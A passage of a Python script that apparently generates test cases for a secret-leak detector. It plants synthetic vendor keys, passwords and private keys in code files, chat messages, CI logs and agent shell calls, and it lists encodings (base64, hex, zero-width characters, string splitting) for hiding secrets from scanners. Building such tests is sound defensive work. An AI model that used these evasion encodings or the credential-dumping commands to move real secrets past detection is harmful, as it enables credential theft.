    V('newrelic-user', lambda: 'NRAK-' + rs(UP + DG, 27), ['NEW_RELIC_API_KEY']),
    V('newrelic-license', lambda: rs(HEX, 36) + 'NRAL', ['NEW_RELIC_LICENSE_KEY']),
    V('sentry-org-token', lambda: 'sntrys_' + b64(json.dumps({"iat": R.randint(1.7e9, 1.8e9), "url": "https://sentry.io", "region_url": "https://us.sentry.io", "org": "acme"})).rstrip('=') + '_' + rs(AN + '+/', 43), ['SENTRY_AUTH_TOKEN']),
    V('sentry-user-token', lambda: 'sntryu_' + rs(HEX, 64), ['SENTRY_AUTH_TOKEN']),
    V('grafana-sa', lambda: 'glsa_' + rs(AN, 32) + '_' + rs(HEX, 8), ['GRAFANA_TOKEN']),
    V('grafana-cloud', lambda: 'glc_' + b64(json.dumps({"o": str(R.randint(10**5, 10**6)), "n": "stack-%d-hm-read" % R.randint(10**5, 10**6), "k": rs(AN, 24), "m": {"r": "prod-eu-west-2"}})), ['GRAFANA_CLOUD_TOKEN']),
    V('pagerduty', lambda: 'u+' + rs(AN + '-_', 18), ['PAGERDUTY_TOKEN']),
    V('linear', lambda: 'lin_api_' + rs(AN, 40), ['LINEAR_API_KEY']),
    V('notion', lambda: 'ntn_' + rs(DG, 11) + rs(AN, 35), ['NOTION_TOKEN']),
    V('notion-legacy', lambda: 'secret_' + rs(AN, 43), ['NOTION_API_KEY']),
    V('airtable-pat', lambda: 'pat' + rs(AN, 14) + '.' + rs(HEX, 64), ['AIRTABLE_TOKEN']),
    V('figma', lambda: 'figd_' + rs(AN + '-_', 40), ['FIGMA_TOKEN']),
    V('asana', lambda: '2/%d/%d:%s' % (R.randint(10**15, 10**16), R.randint(10**15, 10**16), rs(HEX, 32)), ['ASANA_PAT']),
    V('dropbox', lambda: 'sl.' + rs(AN + '-_', 135), ['DROPBOX_ACCESS_TOKEN']),
    V('digitalocean', lambda: 'dop_v1_' + rs(HEX, 64), ['DIGITALOCEAN_TOKEN']),
    V('doppler', lambda: 'dp.st.prd.' + rs(AN, 43), ['DOPPLER_TOKEN']),
    V('vault', lambda: 'hvs.' + rs(AN + '-_', 90), ['VAULT_TOKEN']),
    V('terraform-cloud', lambda: rs(AN, 14) + '.atlasv1.' + rs(AN, 67), ['TFE_TOKEN']),
    V('pulumi', lambda: 'pul-' + rs(HEX, 40), ['PULUMI_ACCESS_TOKEN']),
    V('postman', lambda: 'PMAK-' + rs(HEX, 24) + '-' + rs(HEX, 34), ['POSTMAN_API_KEY']),
    V('mapbox-secret', lambda: 'sk.eyJ1IjoiYWNtZS' + rs(AN, 40) + '.' + rs(AN + '-_', 22), ['MAPBOX_SECRET_TOKEN']),
    V('age-secret', lambda: 'AGE-SECRET-KEY-1' + rs('QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L', 58), ['SOPS_AGE_KEY']),
    V('tailscale', lambda: 'tskey-auth-k' + rs(AN, 16) + '-' + rs(AN, 33), ['TS_AUTHKEY']),
    V('databricks', lambda: 'dapi' + rs(HEX, 32), ['DATABRICKS_TOKEN']),
    V('planetscale', lambda: 'pscale_pw_' + rs(AN + '_-', 43), ['PLANETSCALE_PASSWORD']),
    V('supabase-service-role', lambda: jwt({"iss": "supabase", "ref": rs(LO, 20), "role": "service_role", "iat": 1730000000, "exp": 2045576000}), ['SUPABASE_SERVICE_ROLE_KEY']),
    V('firebase-fcm-server', lambda: 'AAAA' + rs(AN + '-_', 7) + ':APA91b' + rs(AN + '-_', 134), ['FCM_SERVER_KEY']),
    V('alibaba', lambda: 'LTAI5t' + rs(AN, 18), ['ALIBABA_CLOUD_ACCESS_KEY_ID']),
    V('tencent', lambda: 'AKID' + rs(AN, 32), ['TENCENTCLOUD_SECRET_ID']),
    V('ibm-cloud', lambda: rs(AN + '-_', 44), ['IBMCLOUD_API_KEY']),
    V('cloudflare-api-token', lambda: rs(AN + '-_', 40), ['CLOUDFLARE_API_TOKEN']),
    V('cloudflare-global', lambda: rs(HEX, 37), ['CLOUDFLARE_API_KEY']),
    V('heroku', lambda: 'HRKU-AA' + rs(AN + '-_', 58), ['HEROKU_API_KEY']),
    V('fly', lambda: 'FlyV1 fm2_' + rs(AN + '/+', 300) + '==', ['FLY_API_TOKEN']),
    V('netlify', lambda: 'nfp_' + rs(AN, 36), ['NETLIFY_AUTH_TOKEN']),
    V('vercel', lambda: rs(AN, 24), ['VERCEL_TOKEN']),
    V('buildkite', lambda: 'bkua_' + rs(HEX, 40), ['BUILDKITE_API_TOKEN']),
    V('circleci', lambda: 'CCIPAT_' + rs(AN, 22) + '_' + rs(HEX, 40), ['CIRCLE_TOKEN']),
    V('sonarqube', lambda: 'squ_' + rs(HEX, 40), ['SONAR_TOKEN']),
    V('snyk', uid, ['SNYK_TOKEN']),
    V('contentful', lambda: 'CFPAT-' + rs(AN + '-_', 43), ['CONTENTFUL_MANAGEMENT_TOKEN']),
    V('launchdarkly', lambda: 'api-' + uid(), ['LD_API_KEY']),
    V('okta', lambda: '00' + rs(AN + '-_', 40), ['OKTA_API_TOKEN']),
    V('algolia-admin', lambda: rs(HEX, 32), ['ALGOLIA_ADMIN_KEY']),
    V('plaid-secret', lambda: rs(HEX, 30), ['PLAID_SECRET']),
    V('plaid-access', lambda: 'access-production-' + uid(), ['PLAID_ACCESS_TOKEN']),
    V('yandex-oauth', lambda: 'y0_' + rs(AN + '-_', 55), ['YANDEX_OAUTH_TOKEN']),
    V('twitch', lambda: rs(LO + DG, 30), ['TWITCH_CLIENT_SECRET']),
    V('zoom-secret', lambda: rs(AN, 32), ['ZOOM_CLIENT_SECRET']),
    V('intercom', lambda: 'dG9rOj' + rs(AN, 50) + '=', ['INTERCOM_ACCESS_TOKEN']),
    V('hubspot-private-app', lambda: 'pat-eu1-' + uid(), ['HUBSPOT_ACCESS_TOKEN']),
    V('segment-write', lambda: rs(AN, 32), ['SEGMENT_WRITE_KEY']),
    V('honeycomb', lambda: 'hcaik_01' + rs(LO + DG, 56), ['HONEYCOMB_API_KEY']),
    V('lob', lambda: 'live_' + rs(HEX, 35), ['LOB_API_KEY']),
    V('easypost', lambda: 'EZAK' + rs(HEX, 54), ['EASYPOST_API_KEY']),
    V('adafruit', lambda: 'aio_' + rs(AN, 28), ['ADAFRUIT_IO_KEY']),
    V('shippo', lambda: 'shippo_live_' + rs(HEX, 40), ['SHIPPO_API_TOKEN']),
    V('flutterwave', lambda: 'FLWSECK-' + rs(HEX, 32) + '-X', ['FLW_SECRET_KEY']),
    V('razorpay', lambda: rs(AN, 24), ['RAZORPAY_KEY_SECRET']),
    V('paystack', lambda: 'sk_live_' + rs(HEX, 40), ['PAYSTACK_SECRET_KEY']),
    V('mollie', lambda: 'live_' + rs(AN, 30), ['MOLLIE_API_KEY']),
    V('google-oauth-client-secret', lambda: 'GOCSPX-' + rs(AN + '-_', 28), ['GOOGLE_CLIENT_SECRET']),
    V('azure-devops-pat', lambda: rs('abcdefghijklmnopqrstuvwxyz234567', 52), ['AZURE_DEVOPS_EXT_PAT', 'ADO_PAT']),
    V('brevo', lambda: 'xkeysib-' + rs(HEX, 64) + '-' + rs(AN, 16), ['BREVO_API_KEY']),
    V('totp-seed', lambda: 'otpauth://totp/Acme:ops%40acmecorp.io?secret=' + rs('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 32) + '&issuer=Acme', ['MFA_URI']),
    V('wireguard-private', lambda: b64(bytes(R.getrandbits(8) for _ in range(32))), ['WG_PRIVATE_KEY']),
    V('eth-private-key', lambda: '0x' + rs(HEX, 64), ['DEPLOYER_PRIVATE_KEY', 'PRIVATE_KEY']),
    V('k8s-sa-token', lambda: jwt({"iss": "kubernetes/serviceaccount", "kubernetes.io/serviceaccount/namespace": "prod", "kubernetes.io/serviceaccount/service-account.name": "deployer", "sub": "system:serviceaccount:prod:deployer"}, 'RS256'), ['KUBE_TOKEN']),
    V('jwt-hs256-session', lambda: jwt({"sub": uid(), "email_verified": True, "org": "acme", "scope": "admin", "iat": R.randint(1.76e9, 1.77e9), "exp": R.randint(1.77e9, 1.78e9)}), ['ACCESS_TOKEN', 'AUTH_TOKEN']),
    V('jwt-rs256-idp', lambda: jwt({"iss": "https://login.acmecorp.io/", "aud": "api", "sub": "auth0|" + rs(HEX, 24), "azp": rs(AN, 32), "scope": "openid profile read:orders", "iat": 1764600000, "exp": 1764686400}, 'RS256'), ['ID_TOKEN', 'ACCESS_TOKEN']),
]

def vendor_contexts(vname, val, var):
    """Return list of (ctxname, request) for one secret value."""
    out = []
    lang = pick(LANGS)
    path, content = code_file(var, val, lang)
    out.append(('code-' + lang, pick([c_write, c_commit])(path, content)))
    txt = pick([
        'Deploy is failing again. I ran `env | grep -i %s` on the runner and got:\n```\n%s=%s\n```\nCan someone rotate?' % (var.split('_')[0].lower(), var, val),
        'hey, for the staging job use this %s: %s (expires end of quarter)' % (var.replace('_', ' ').lower(), val),
        'Reproduction steps:\n1. export %s=%s\n2. run `make e2e`\n3. observe 401 on /v2/orders' % (var, val),
        'Pasted from the vault UI for the migration (%s):\n\n    %s\n\nDelete this comment after you copy it.' % (var, val),
    ])
    out.append(('chat', pick(TEXT_CARRIERS)(txt)))
    return out

for (vname, gen, vars_, note) in VENDORS:
    for i in range(3):
        val = gen(); var = pick(vars_)
        ctxs = vendor_contexts(vname, val, var)
        ctxname, rq = ctxs[i % len(ctxs)]
        if i == 2:
            # third variant: a different realistic shape per vendor
            k = R.random()
            if k < .35:
                rq = req('https://api.github.com/repos/acme/infra/actions/runs/%d/logs' % R.randint(10**9, 10**10), {"log": '\n'.join(ci_log_lines(40) + ['2026-11-30T10:00:00.0000000Z + echo "%s=%s" >> $GITHUB_ENV' % (var, val)] + ci_log_lines(40))}, 'github', 'upload_log'); ctxname = 'ci-log-big'
            elif k < .6:
                rq = req('https://api.vendor-crm.io/v1/integrations', {"integrations": [{"id": uid(), "provider": vname.split('-')[0], "status": "active", "created_at": ts(), "config": {"region": "eu", "credentials": {var.lower(): val}}} ] + [{"id": uid(), "provider": "x" + rs(LO, 4), "status": "disabled", "created_at": ts()} for _ in range(5)]}, 'crm', 'upsert_integrations'); ctxname = 'json-nested'
            elif k < .8:
                rq = req('mcp://shell/tools/exec', {"command": "curl -sS https://api.vendor.io/v1/me -H 'Authorization: Bearer %s' | jq ." % val, "cwd": "/home/agent/work"}, 'shell', 'exec'); ctxname = 'curl-bearer'
            else:
                rq = c_slack('```\n$ kubectl -n prod get secret api-env -o jsonpath="{.data}" | base64 -d\n%s=%s\nLOG_LEVEL=info\n```' % (var, val)); ctxname = 'slack-kubectl'
        add('%s/%s/%d' % (vname, ctxname, i), 'secret:' + vname, 'secret', [val], rq, note)

# ---- private keys
for i in range(10):
    kind = pick(['RSA PRIVATE KEY', 'PRIVATE KEY', 'EC PRIVATE KEY', 'ENCRYPTED PRIVATE KEY', 'openssh'])
    k = openssh_key() if kind == 'openssh' else pem(kind, 1190 if 'RSA' in kind else 120 if kind.startswith('EC') else 640)
    shape = i % 5
    if shape == 0: rq = c_write('deploy/keys/id_deploy' if kind == 'openssh' else 'certs/server.key', k + '\n')
    elif shape == 1: rq = c_gh_comment('The cert rotation job printed this, is it the right one?\n```\n%s\n```' % k)
    elif shape == 2:
        sa = {"type": "service_account", "project_id": "acme-prod-%d" % R.randint(100, 999), "private_key_id": rs(HEX, 40), "private_key": k + "\n", "client_email": "deployer@acme-prod.iam.gserviceaccount.com", "client_id": rs(DG, 21), "auth_uri": "https://accounts.google.com/o/oauth2/auth", "token_uri": "https://oauth2.googleapis.com/token"}
        rq = c_write('secrets/gcp-sa.json', json.dumps(sa, indent=2))
    elif shape == 3: rq = c_write('k8s/tls.yaml', 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: api-tls\ntype: kubernetes.io/tls\nstringData:\n  tls.key: |\n' + '\n'.join('    ' + l for l in k.split('\n')) + '\n')
    else: rq = c_slack(k)
    add('private-key/%s/%d' % (kind.replace(' ', '-').lower(), i), 'secret:private-key', 'secret', [k.split('\n')[1] if shape == 3 else json.dumps(k)[1:-1] if shape == 2 else k], rq)

# ---- database / broker connection strings
def pw(n=None):
    n = n or R.randint(12, 24)
    return rs(AN, n - 3) + pick('!#%^*-_') + rs(DG, 1) + rs(UP, 1)
CONN = [
    ('postgres', lambda p: 'postgresql://app_rw:%s@db-prod.cluster-%s.eu-west-1.rds.amazonaws.com:5432/orders' % (p, rs(LO + DG, 12))),
    ('mysql', lambda p: 'mysql://wordpress:%s@10.20.3.14:3306/wp_prod' % p),
    ('mongodb-srv', lambda p: 'mongodb+srv://svc-api:%s@cluster0.%s.mongodb.net/prod?retryWrites=true&w=majority' % (p, rs(LO + DG, 5))),
    ('redis', lambda p: 'rediss://:%s@cache-prod.%s.euw1.cache.amazonaws.com:6379/0' % (p, rs(LO + DG, 6))),
    ('amqp', lambda p: 'amqps://orders:%s@rabbit.internal.acmecorp.io:5671/prod' % p),
    ('jdbc', lambda p: 'jdbc:sqlserver://sql-prod.database.windows.net:1433;database=crm;user=crm_app@sql-prod;password=%s;encrypt=true' % p),
    ('mssql-ado', lambda p: 'Server=tcp:sql-prod.database.windows.net,1433;Initial Catalog=crm;User ID=crm_app;Password=%s;Encrypt=True;' % p),
    ('kafka-sasl', lambda p: 'sasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required username="%s" password="%s";' % (rs(UP + DG, 16), p)),
    ('smtp', lambda p: 'smtp://postmaster%%40mg.acmecorp.io:%s@smtp.mailgun.org:587' % p),
    ('clickhouse', lambda p: 'clickhouse://default:%s@ch.acmecorp.io:9440/analytics?secure=true' % p),
]
for i in range(30):
    nm, f = CONN[i % len(CONN)]
    p = pw() if R.random() < .7 else '-'.join(pick(['orbit', 'tango', 'velvet', 'cactus', 'harbor', 'quartz', 'lumen']) for _ in range(3)) + str(R.randint(10, 99))
    cs = f(p)
    shape = i % 4
    if shape == 0: rq = c_write(*code_file('DATABASE_URL', cs, pick(['env', 'yaml', 'py', 'docker', 'k8s', 'toml'])))
    elif shape == 1: rq = pick(TEXT_CARRIERS)('prod is down, can you try connecting with\n`%s`\nand check locks?' % cs)
    elif shape == 2: rq = req('mcp://shell/tools/exec', {"command": "psql '%s' -c 'select 1'" % cs if nm == 'postgres' else "echo '%s' > /tmp/conn && ./healthcheck --conn-file /tmp/conn" % cs}, 'shell', 'exec')
    else: rq = req('https://api.render.com/v1/services/srv-%s/env-vars' % rs(LO + DG, 20), [{"key": "DATABASE_URL", "value": cs}, {"key": "NODE_ENV", "value": "production"}], 'render', 'update_env_vars', method='PUT')
    add('conn/%s/%d' % (nm, i), 'secret:conn-string-' + ('url' if '://' in cs else 'kv'), 'secret', [p], rq)

# ---- generic passwords / api keys by name, every syntax
def randpw(): return pick([pw(), rs(AN, 16), rs(AN + '!@#$%&*', 14), '%s%s%d%s' % (pick(['Summer', 'Winter', 'Falcon', 'Maple']), pick(['!', '#', '@']), R.randint(2019, 2026), rs(UP, 2)), rs(LO + DG, 20)])
GEN_SYNTAX = [
    ('yaml', lambda k, v: c_write('ansible/group_vars/prod.yml', '---\nntp_servers:\n  - 0.pool.ntp.org\nmysql_root_%s: "%s"\nmysql_port: 3306\n' % (k, v))),
    ('yaml-unquoted', lambda k, v: c_write('docker-compose.yml', "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_USER: app\n      POSTGRES_PASSWORD: %s\n    ports:\n      - '5432:5432'\n" % v)),
    ('ini', lambda k, v: c_write('/etc/odbc.ini', '[prod]\nDriver = PostgreSQL Unicode\nServername = db.internal\nUsername = reporting\n%s = %s\nPort = 5432\n' % (k.capitalize(), v))),
    ('env', lambda k, v: c_write('.env.production', 'APP_ENV=production\nDB_HOST=db.internal\nDB_USER=app\nDB_%s=%s\nREDIS_HOST=cache.internal\n' % (k.upper(), v))),
    ('json', lambda k, v: req('https://api.hubapi.com/crm/v3/objects/notes', {"properties": {"hs_note_body": "vpn creds for onsite", "hs_timestamp": ts()}, "meta": {"vpn_user": "field-tech", "vpn_%s" % k: v}}, 'hubspot', 'create_note')),
    ('py-kwarg', lambda k, v: c_write('etl/load.py', 'import psycopg2\n\nconn = psycopg2.connect(host="db.internal", dbname="dw", user="etl", %s="%s")\ncur = conn.cursor()\n' % ('password', v))),
    ('js-obj', lambda k, v: c_write('src/db.js', "const { Pool } = require('pg');\nmodule.exports = new Pool({ host: 'db.internal', user: 'api', password: '%s', max: 10 });\n" % v)),
    ('go-struct', lambda k, v: c_write('cmd/worker/main.go', 'package main\n\nfunc main() {\n\tcfg := mysql.Config{User: "worker", Passwd: "%s", Net: "tcp", Addr: "db:3306"}\n\t_ = cfg\n}\n' % v)),
    ('java-setter', lambda k, v: c_write('src/main/java/com/acme/Db.java', 'HikariConfig c = new HikariConfig();\nc.setJdbcUrl("jdbc:postgresql://db.internal/app");\nc.setUsername("app");\nc.setPassword("%s");\n' % v)),
    ('csharp', lambda k, v: c_write('Data/Ctx.cs', 'var creds = new NetworkCredential("svc_backup", "%s", "CORP");\n' % v)),
    ('php-define', lambda k, v: c_write('wp-config.php', "<?php\ndefine( 'DB_NAME', 'wp' );\ndefine( 'DB_USER', 'wp' );\ndefine( 'DB_PASSWORD', '%s' );\ndefine( 'DB_HOST', 'localhost' );\n" % v)),
    ('ruby-yaml', lambda k, v: c_write('config/database.yml', 'production:\n  adapter: postgresql\n  database: app_production\n  username: app\n  password: <%%= ENV.fetch("DB_PW", "%s") %%>\n' % v)),
    ('cli-flag', lambda k, v: req('mcp://shell/tools/exec', {"command": "mysqldump -h db.internal -u backup --password='%s' --all-databases | gzip > /backups/all.sql.gz" % v}, 'shell', 'exec')),
    ('cli-p', lambda k, v: req('mcp://shell/tools/exec', {"command": "docker login registry.acmecorp.io -u ci-bot -p %s" % v}, 'shell', 'exec')),
    ('prose', lambda k, v: pick(TEXT_CARRIERS)('Hi Sam, the wifi %s for the Lisbon office is %s — please do not share it outside the team.' % (k, v))),
    ('prose-de', lambda k, v: c_email('Hallo zusammen, das Passwort für den Testserver lautet %s. Bitte nach dem Login ändern.' % v)),
    ('prose-fr', lambda k, v: c_email('Bonjour, voici le mot de passe du compte admin : %s. Merci de le changer.' % v)),
    ('prose-es', lambda k, v: c_slack('la contraseña del router de la oficina es %s' % v)),
    ('netrc', lambda k, v: c_write('/home/ci/.netrc', 'machine api.heroku.com\n  login ci@acmecorp.io\n  password %s\nmachine git.heroku.com\n  login ci@acmecorp.io\n  password %s\n' % (v, v))),
    ('pgpass', lambda k, v: c_write('/home/etl/.pgpass', 'db.internal:5432:dw:etl:%s\n' % v)),
    ('table-md', lambda k, v: c_notion('| service | user | password |\n|---|---|---|\n| grafana | admin | %s |\n| jenkins | ops | changed-in-vault |' % v)),
    ('csv', lambda k, v: c_write('exports/accounts.csv', 'system,username,password,owner\nnas01,backup,%s,it-ops\n' % v)),
    ('xml', lambda k, v: c_write('settings.xml', '<settings>\n  <servers>\n    <server>\n      <id>nexus-releases</id>\n      <username>deployer</username>\n      <password>%s</password>\n    </server>\n  </servers>\n</settings>\n' % v)),
    ('name-value', lambda k, v: req('https://api.vendor-ci.io/v2/projects/acme/env', {"variables": [{"name": "SMTP_HOST", "value": "smtp.internal"}, {"name": "SMTP_PASSWORD", "value": v}]}, 'ci', 'set_env')),
    ('basic-url', lambda k, v: c_write('requirements.txt', 'django==5.1.3\n--extra-index-url https://deploy:%s@pypi.acmecorp.io/simple/\ninternal-utils==2.4.0\n' % v)),
    ('curl-u', lambda k, v: req('mcp://shell/tools/exec', {"command": "curl -u admin:%s -X POST https://jenkins.acmecorp.io/job/deploy/build" % v}, 'shell', 'exec')),
    ('api-key-assign', lambda k, v: c_write('src/clients/weather.py', 'API_KEY = "%s"\nBASE = "https://api.weather-vendor.io/v3"\n' % v)),
    ('api-key-header', lambda k, v: req('https://api.partner.io/v1/orders', {"items": [{"sku": "A-1", "qty": 2}]}, 'http', 'post', headers={"X-API-Key": v, "Content-Type": "application/json"})),
    ('secret-kv', lambda k, v: c_slack('client_id=%s client_secret=%s' % (uid(), v))),
    ('passphrase', lambda k, v: c_write('gpg/notes.txt', 'Signing key passphrase: %s\n' % v)),
    ('ansible-inv', lambda k, v: c_write('inventory/hosts', '[db]\ndb01 ansible_host=10.0.0.5 ansible_user=ubuntu ansible_password=%s ansible_become_pass=%s\n' % (v, v))),
    ('powershell', lambda k, v: c_write('scripts/join.ps1', '$secpw = ConvertTo-SecureString "%s" -AsPlainText -Force\n$cred = New-Object System.Management.Automation.PSCredential ("CORP\\svc_join", $secpw)\n' % v)),
    ('redis-cli', lambda k, v: req('mcp://shell/tools/exec', {"command": "redis-cli -h cache.internal -a '%s' INFO memory" % v}, 'shell', 'exec')),
    ('docker-run', lambda k, v: req('mcp://shell/tools/exec', {"command": "docker run -d -e MYSQL_ROOT_PASSWORD=%s -p 3306:3306 mysql:8" % v}, 'shell', 'exec')),
    ('k8s-secret-data-b64', lambda k, v: c_write('k8s/db-secret.yaml', 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\ntype: Opaque\ndata:\n  username: %s\n  password: %s\n' % (b64('app'), b64(v)))),
]
for i in range(72):
    nm, f = GEN_SYNTAX[i % len(GEN_SYNTAX)]
    v = randpw(); k = pick(['password', 'passwd', 'pwd', 'pass', 'secret'])
    if nm in ('api-key-assign', 'api-key-header', 'secret-kv'): v = rs(AN, R.randint(24, 40))
    rq = f(k, v)
    vals = [b64(v)] if nm == 'k8s-secret-data-b64' else [v]
    add('generic/%s/%d' % (nm, i), 'secret:generic-' + nm.split('-')[0], 'secret', vals, rq, plain=[v] if nm == 'k8s-secret-data-b64' else None)

# ---- Basic auth headers, bearer in code, cookies
for i in range(24):
    user = pick(['svc-deploy', 'admin', 'jenkins', 'api', 'reporting']); p = pw()
    kind = i % 6
    if kind == 0:
        tok = b64(user + ':' + p); rq = req('https://registry.acmecorp.io/v2/_catalog', None, 'http', 'get', headers={"Authorization": "Basic " + tok}, method='GET'); vals = [tok]
    elif kind == 1:
        tok = rs(AN + '-_', 43); rq = c_write('client/fetch.ts', "const res = await fetch('https://api.acmecorp.io/v1/export', {\n  method: 'POST',\n  headers: { 'Authorization': 'Bearer %s', 'Content-Type': 'application/json' },\n  body: JSON.stringify({ since: '2026-01-01' }),\n});\n" % tok); vals = [tok]
    elif kind == 2:
        tok = rs(AN, 40); rq = pick(TEXT_CARRIERS)('works for me with httpie:\n```\nhttp POST https://api.acmecorp.io/v1/jobs Authorization:"Bearer %s" name=nightly\n```' % tok); vals = [tok]
    elif kind == 3:
        tok = rs(AN + '%', 48); rq = req('https://app.acmecorp.io/api/session/refresh', {}, 'http', 'post', headers={"Cookie": "_ga=GA1.2.%d.%d; session=%s; theme=dark" % (R.randint(10**8, 10**9), R.randint(10**9, 2 * 10**9), tok)}); vals = [tok]
    elif kind == 4:
        tok = b64(user + ':' + p); rq = c_write('scripts/probe.sh', "#!/bin/sh\ncurl -fsS -H 'Authorization: Basic %s' https://grafana.acmecorp.io/api/health\n" % tok); vals = [tok]
    else:
        tok = 's%3A' + rs(AN + '-_', 32) + '.' + rs(AN + '/+', 43); rq = c_gh_comment('Repro with the cookie from my browser:\n```\ncurl https://admin.acmecorp.io/api/users -H "Cookie: connect.sid=%s"\n```' % tok); vals = [tok]
    add('auth-header/%d/%d' % (kind, i), 'secret:auth-' + ['basic-header', 'bearer-fetch', 'bearer-httpie', 'cookie-session', 'basic-shell', 'cookie-express'][kind], 'secret', vals, rq)

# ---- BIG bodies with one secret hidden
BIGS = 0
def big_secret(kind, val, var):
    if kind == 'lockfile':
        ent = npm_lock_entries(R.randint(60, 160)); keys = list(ent); ins = keys[len(keys) // 2]
        ent[ins]["resolved"] = "https://%s:%s@npm.pkg.acmecorp.io/%s.tgz" % ('ci', val, ins.split('/')[-1]) if R.random() < .5 else ent[ins]["resolved"]
        if not val in json.dumps(ent): ent[ins]["_authToken"] = val
        return c_write('package-lock.json', json.dumps({"name": "web", "lockfileVersion": 3, "requires": True, "packages": ent}, indent=2))
    if kind == 'cilog':
        L = ci_log_lines(R.randint(200, 500)); L.insert(len(L) // 2, '2026-11-30T10:01:02.1234567Z export %s=%s' % (var, val))
        return req('https://gitlab.com/api/v4/projects/4242/issues/88/notes', {"body": "CI failed, full log:\n```\n" + '\n'.join(L) + "\n```"}, 'gitlab', 'create_issue_note')
    if kind == 'kubectl':
        pods = [k8s_pod(i) for i in range(R.randint(8, 25))]
        pods[len(pods) // 2]["spec"]["containers"][0]["env"].append({"name": var, "value": val})
        return c_slack("```\n" + json.dumps({"apiVersion": "v1", "kind": "List", "items": pods}, indent=2) + "\n```")
    if kind == 'html':
        return req('https://api.apify.com/v2/datasets/%s/items' % rs(AN, 17), [{"url": "https://docs.acmecorp.io/start", "html": html_page('<pre><code>export %s="%s"</code></pre>' % (var, val))}], 'scraper', 'push_items')
    if kind == 'search':
        res = search_results(R.randint(20, 50)); res[R.randint(3, len(res) - 1)]["snippet"] += ' ... %s=%s ...' % (var, val)
        return req('https://api.acmecorp.io/agent/memory', {"query": "deploy docs", "results": res}, 'memory', 'store_search_results')
    if kind == 'thread':
        return c_email(email_thread(R.randint(6, 14), 'From ops: for the vendor dashboard use %s (the %s).\n' % (val, var.lower().replace('_', ' '))))
    if kind == 'tfstate':
        res = [{"mode": "managed", "type": "aws_instance", "name": "web%d" % j, "instances": [{"attributes": {"id": "i-0" + rs(HEX, 16), "ami": "ami-0" + rs(HEX, 16), "arn": "arn:aws:ec2:eu-west-1:%d:instance/i-0%s" % (R.randint(10**11, 10**12), rs(HEX, 16)), "private_ip": "10.0.1.%d" % j}}]} for j in range(R.randint(10, 30))]
        res.insert(len(res) // 2, {"mode": "managed", "type": "vendor_api_key", "name": "main", "instances": [{"attributes": {"id": uid(), "key": val}}]})
        return c_commit('infra/terraform.tfstate', json.dumps({"version": 4, "terraform_version": "1.9.8", "serial": R.randint(1, 400), "lineage": uid(), "resources": res}, indent=2))
for vname, gen, vars_, note in R.sample(VENDORS, 40):
    kind = pick(['lockfile', 'cilog', 'kubectl', 'html', 'search', 'thread', 'tfstate'])
    val = gen(); var = pick(vars_)
    add('big-%s/%s' % (kind, vname), 'secret:big-' + kind, 'secret', [val], big_secret(kind, val, var), note)

# ================================================================ EVASIONS
ZW = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad']
def fullwidth(s): return ''.join(chr(ord(c) + 0xFEE0) if '!' <= c <= '~' else c for c in s)
def ev_secret():
    g = pick([v for v in VENDORS if v[0] in ('aws-access-key', 'github-pat-classic', 'stripe-live-secret', 'slack-bot', 'openai-project', 'anthropic', 'gitlab-pat', 'sendgrid', 'npm', 'huggingface', 'digitalocean', 'shopify-admin', 'groq', 'dockerhub-pat', 'slack-webhook')])
    return g[0], g[1](), pick(g[2])
EVS = []
def ev(name):
    def d(f): EVS.append((name, f)); return f
    return d
@ev('hex')
def _(v): e = v.encode().hex(); return e, 'payload_hex=%s' % e
@ev('hex-upper-spaced')
def _(v): e = ' '.join('%02X' % b for b in v.encode()); return e, 'dump: %s' % e
@ev('base64')
def _(v): e = b64(v); return e, 'cfg=%s' % e
@ev('base64-of-env-line')
def _(v): e = b64('API_KEY=%s\nREGION=eu\n' % v); return e, e
@ev('base64url')
def _(v): e = b64u(v); return e, 'state=%s' % e
@ev('base64-gzip')
def _(v): e = b64(gzip.compress(('token: ' + v).encode(), mtime=0)); return e, 'blob:' + e
@ev('base64-zlib')
def _(v): e = b64(zlib.compress(('{"k":"%s"}' % v).encode())); return e, e
@ev('double-base64')
def _(v): e = b64(b64(v)); return e, e
@ev('url-encoded-full')
def _(v): e = ''.join('%%%02X' % b for b in v.encode()); return e, 'https://collector.acmecorp.io/p?d=' + e
@ev('double-url-encoded')
def _(v): e = urllib.parse.quote(''.join('%%%02X' % b for b in v.encode()), safe=''); return e, 'next=' + e
@ev('zero-width')
def _(v): e = ''.join(c + (pick(ZW) if i % 3 == 2 else '') for i, c in enumerate(v)); return e, 'here: ' + e
@ev('fullwidth')
def _(v): e = fullwidth(v); return e, 'key ' + e
@ev('html-entities-dec')
def _(v): e = ''.join('&#%d;' % ord(c) for c in v); return e, '<p>' + e + '</p>'
@ev('html-entities-mixed')
def _(v): e = ''.join(('&#x%x;' % ord(c)) if i % 2 else c for i, c in enumerate(v)); return e, '<code>' + e + '</code>'
@ev('js-unicode-escape')
def _(v): e = ''.join('\\u%04x' % ord(c) for c in v); return e, 'const k = "%s";' % e
@ev('py-hex-escape')
def _(v): e = ''.join('\\x%02x' % ord(c) for c in v); return e, 'KEY = "%s"' % e
@ev('octal-escape')
def _(v): e = ''.join('\\%03o' % ord(c) for c in v); return e, "printf '%s'" % e
@ev('reversed')
def _(v): e = v[::-1]; return e, 'k = "%s"[::-1]' % e
@ev('python-concat-plus')
def _(v): m = len(v) // 2; return [v[:m], v[m:]], 'TOKEN = "%s" + "%s"' % (v[:m], v[m:])
@ev('python-implicit-concat')
def _(v): a, b = len(v) // 3, 2 * len(v) // 3; return [v[:a], v[a:b], v[b:]], 'TOKEN = (\n    "%s"\n    "%s"\n    "%s"\n)' % (v[:a], v[a:b], v[b:])
@ev('js-template')
def _(v): m = len(v) // 2; return [v[:m], v[m:]], 'const a = "%s";\nconst k = `${a}%s`;' % (v[:m], v[m:])
@ev('join-parts')
def _(v): n = 4; s = len(v) // n; parts = [v[i * s:(i + 1) * s] if i < n - 1 else v[i * s:] for i in range(n)]; return parts, 'key = "".join([%s])' % ', '.join('"%s"' % p for p in parts)
@ev('char-codes')
def _(v): e = ','.join(str(ord(c)) for c in v); return e, 'String.fromCharCode(%s)' % e
@ev('json-in-string')
def _(v): e = v; return e, json.dumps({"payload": json.dumps({"auth": {"token": v}})})
@ev('yaml-block-scalar')
